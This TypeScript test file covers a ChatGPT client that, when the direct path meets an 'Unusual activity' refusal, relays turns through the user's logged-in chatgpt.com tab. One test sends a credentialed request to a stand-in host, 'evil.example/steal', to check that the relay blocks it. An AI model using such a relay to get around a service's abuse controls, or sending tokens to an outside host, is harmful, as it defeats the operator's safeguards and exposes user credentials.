/**
 * The core client over the tab relay (issue 11), against the stand-in in its "requireOrigin" mode:
 * the real relay function runs in a VM "tab" (fake-relay-tab.ts) connected by a fake port. The
 * direct path is refused with the real "Unusual activity" 403; the turn goes once through the tab,
 * byte-exact, and the user message is counted once.
 */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createChatGptClient, type ChatGptClient } from '../../src/core/chatgpt/chatgpt-client'
import { ChatGptError } from '../../src/core/chatgpt/chatgpt-error'
import { createTabRelayTransport } from '../../src/core/chatgpt/transport/tab-relay-transport'
import type { TransportUse } from '../../src/core/chatgpt/transport/transport'
import type { RememberedRelay } from '../../src/core/chatgpt/transport/transport-router'
import { planTurn } from '../../src/core/conversations/thread'
import { createBrowserLikeFetch, faults, startStandIn, type RequestLogEntry, type StandIn } from '../chatgpt-stand-in/index'
import { newThread, runTurn } from './client-harness'
import { createFakeRelayTab } from './fake-relay-tab'
import { nodeSentinelEnvironment } from './node-environment'

const CHATGPT = 'https://chatgpt.com'
const DEVICE_ID = '6f1c2a53-4c1d-4b8e-9a55-0d3c2b1a0f99'
const JWT = /eyJ[\w-]+\.[\w-]+\./
const TEXT = 'Über 答案 🙂🚀 — ' + 'the relay keeps every byte; '.repeat(40) + '結束。'

let standIn: StandIn
beforeAll(async () => {
  standIn = await startStandIn({ era: '2026' })
})
afterAll(async () => {
  await standIn.close()
})

let tab: ReturnType<typeof createFakeRelayTab>
let direct: ReturnType<typeof createBrowserLikeFetch>
let memory: RememberedRelay | undefined
let uses: Array<TransportUse | undefined>
beforeEach(() => {
  standIn.reset()
  standIn.setMode({ requireOrigin: CHATGPT, rawUtf8: true })
  tab = createFakeRelayTab(standIn, { deviceId: DEVICE_ID })
  direct = createBrowserLikeFetch(standIn, { cookies: { [standIn.loginCookie.name]: standIn.loginCookie.value, 'oai-did': DEVICE_ID } })
  memory = undefined
  uses = []
})
afterEach(async () => {
  await tab.dispose()
  await direct.close()
})

function client(openChannel = () => tab.openChannel()): ChatGptClient {
  return createChatGptClient({
    fetch: direct,
    relay: createTabRelayTransport({ openChannel }),
    transportMemory: {
      get: async () => memory,
      set: async (value) => void (memory = value),
      clear: async () => void (memory = undefined),
    },
    now: () => Date.now(),
    random: Math.random,
    newId: () => crypto.randomUUID(),
    environment: nodeSentinelEnvironment,
    deviceId: async () => DEVICE_ID,
    language: 'en-US',
    timezone: () => ({ offsetMin: 0, name: 'UTC' }),
  })
}

const SEND_PATH = '/backend-api/f/conversation'
const sends = () => standIn.log.filter((e) => e.method === 'POST' && e.path === SEND_PATH)
const fromTab = (e: RequestLogEntry) => e.headers.origin === CHATGPT
const userId = (e: RequestLogEntry) => (e.body as { messages: Array<{ id: string }> }).messages[0]!.id

/** Starts a turn without consuming it. */
function start(c: ChatGptClient, prompt: string, signal = new AbortController().signal, onTransport?: (use: TransportUse | undefined) => void) {
  const plan = planTurn(newThread(), 'next', prompt, () => crypto.randomUUID())
  return c.ask({ turn: { ...plan, model: 'auto', temporary: false }, signal, ...(onTransport ? { onTransport } : {}) })
}

async function drain<T, R>(answer: AsyncGenerator<T, R>): Promise<R> {
  for (;;) {
    const step = await answer.next()
    if (step.done) return step.value
  }
}

async function codeOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise
  } catch (error) {
    if (error instanceof ChatGptError) return error.code
    throw error
  }
  throw new Error('expected a ChatGptError')
}

describe('the relay transport', () => {
  it('a refused direct send goes once through the tab: byte-exact across split UTF-8, counted once, remembered', async () => {
    // Chunk boundaries every 7 bytes: inside multibyte characters and inside SSE lines.
    standIn.queueAnswer({ text: TEXT, chunking: 7, delayMs: 0 })
    const c = client()
    const first = await runTurn(c, newThread(), 'next', 'first')
    expect(first.outcome.kind).toBe('complete')
    expect(first.outcome.last.textSoFar).toBe(TEXT)

    const [refused, relayed] = sends()
    expect([refused!.status, relayed!.status]).toEqual([403, 200])
    expect(fromTab(refused!)).toBe(false)
    expect(fromTab(relayed!)).toBe(true)
    expect(userId(relayed!)).toBe(userId(refused!))
    expect(standIn.conversations().flatMap((conv) => conv.userMessageIds)).toEqual([userId(relayed!)])
    expect(memory?.reason).toBe('unusual-activity')
    expect(memory!.until).toBeGreaterThan(Date.now() + 29 * 60_000)

    // The follow-up goes straight through the tab, in the same conversation.
    standIn.queueAnswer({ text: 'second' })
    const second = await runTurn(c, first.thread, 'next', 'second question')
    expect(second.outcome.last.textSoFar).toBe('second')
    expect(sends().slice(2).map(fromTab)).toEqual([true])
    expect(standIn.conversations()).toHaveLength(1)
    expect(standIn.conversations()[0]!.userMessageIds).toHaveLength(2)
    expect(standIn.violations()).toEqual([])
  })

  it('tells the caller when the turn goes through the tab, and why', async () => {
    await drain(start(client(), 'hello', undefined, (use) => uses.push(use)))
    expect(uses).toEqual([{ via: 'relay', reason: 'unusual-activity' }])
  })

  it('sends no credential to the tab: the tab attaches the page\'s own token and device id', async () => {
    await runTurn(client(), newThread(), 'next', 'who am I')
    const { accessToken } = (await (await direct(`${CHATGPT}/api/auth/session`)).json()) as { accessToken: string }
    expect(accessToken).toMatch(JWT)
    const toTab = JSON.stringify(tab.sentToTab())
    // (The conduit token is JWT-shaped too, but it is a one-turn ticket the tab itself fetched.)
    expect(toTab).not.toContain(accessToken)
    expect(toTab).not.toContain(accessToken.split('.')[1]!)
    expect(toTab.toLowerCase()).not.toContain('authorization')
    const relayed = standIn.log.filter(fromTab).filter((e) => e.path.startsWith('/backend-api/'))
    expect(relayed.length).toBeGreaterThanOrEqual(4) // prepare, finalize, conduit prepare, send
    for (const e of relayed) {
      expect(e.headers.authorization).toMatch(/^Bearer eyJ/)
      expect(e.headers['oai-device-id']).toBe(DEVICE_ID)
    }
  })

  it('an abort reaches the tab\'s fetch: the stand-in sees the connection close', async () => {
    standIn.queueAnswer({ text: 'slow '.repeat(400), delayMs: 20 })
    const controller = new AbortController()
    const answer = start(client(), 'stop me', controller.signal)
    await answer.next() // the first text arrived through the tab
    controller.abort()
    expect(await codeOf(drain(answer))).toBe('aborted')
    // Bounded, with room for a loaded 2-core machine.
    const closed = await standIn.waitFor((e) => e.path === SEND_PATH && e.closedByClient, 15_000)
    expect(fromTab(closed)).toBe(true)
  })

  it('a tab that goes away mid-answer interrupts it; nothing is sent again', async () => {
    standIn.queueAnswer({ text: 'cut '.repeat(300), delayMs: 20 })
    const answer = start(client(), 'close the tab')
    await answer.next()
    tab.close()
    expect((await drain(answer)).kind).toBe('interrupted')
    expect(sends().filter(fromTab)).toHaveLength(1)
  })

  it('without a tab: relay-unavailable, and the refused POST counted for nothing', async () => {
    const none = () => Promise.reject(new ChatGptError('relay-unavailable', 'No chatgpt.com tab is open to send from.'))
    const c = client(none)
    expect(await codeOf(runTurn(c, newThread(), 'next', 'nowhere'))).toBe('relay-unavailable')
    expect(sends().map((e) => e.status)).toEqual([403])
    expect(standIn.conversations().flatMap((conv) => conv.userMessageIds)).toEqual([])
    // The next question tries the direct path once more (no tab yet), never in a loop.
    expect(await codeOf(runTurn(c, newThread(), 'next', 'still nowhere'))).toBe('relay-unavailable')
    expect(sends().map((e) => e.status)).toEqual([403, 403])
  })

  it('a human check or a challenge met in the tab is a hand-off (human-check-required)', async () => {
    const c = client()
    await runTurn(c, newThread(), 'next', 'warm up') // the refusal is now remembered
    standIn.setMode({ turnstileRequired: true })
    expect(await codeOf(runTurn(c, newThread(), 'next', 'needs a human'))).toBe('human-check-required')
    standIn.setMode({ turnstileRequired: false })
    standIn.injectFault(faults.cloudflare({ match: { path: /^\/backend-api\//, method: 'POST' } }))
    expect(await codeOf(runTurn(c, newThread(), 'next', 'challenged'))).toBe('human-check-required')
    // Each refusal came from the tab; the worker did not try again on its own.
    expect(sends().slice(2).every(fromTab)).toBe(true)
  })

  it('the relay function in the tab performs only same-origin requests and one request per port', async () => {
    const channel = await tab.openChannel()
    const replies: unknown[] = []
    channel.onMessage((message) => replies.push(message))
    channel.post({ type: 'request', url: 'https://evil.example/steal', method: 'GET', headers: [], authorize: true })
    channel.post({ type: 'request', url: `${CHATGPT}/backend-api/models`, method: 'GET', headers: [], authorize: true })
    await expect.poll(() => replies.length).toBeGreaterThan(0)
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(replies).toEqual([{ type: 'error', name: 'TypeError', message: 'The relay performs only same-origin requests.' }])
    expect(standIn.log.filter((e) => e.path === '/backend-api/models')).toEqual([])
  })

  it('checkTransports reports each path and the remembered choice', async () => {
    const c = client()
    expect(await c.checkTransports()).toEqual({ current: { kind: 'direct' }, direct: { ok: true }, relay: { ok: true } })
    await runTurn(c, newThread(), 'next', 'refused directly')
    const report = await c.checkTransports()
    expect(report.current).toMatchObject({ kind: 'relay', reason: 'unusual-activity' })
    await c.retryDirect()
    expect((await c.checkTransports()).current).toEqual({ kind: 'direct' })
  })
})
